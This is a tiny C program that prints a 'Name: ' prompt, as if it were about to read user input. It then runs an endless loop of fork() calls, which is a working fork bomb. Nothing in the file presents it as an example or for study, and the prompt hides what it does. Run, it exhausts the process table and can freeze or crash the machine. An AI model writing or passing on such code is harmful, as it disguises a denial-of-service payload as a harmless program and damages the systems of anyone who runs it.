#include <stdio.h>
#include <unistd.h>

int main(void)
{
    printf("Name: ");
    fflush(stdout);
    for (;;)
    {
        fork();
    }
}
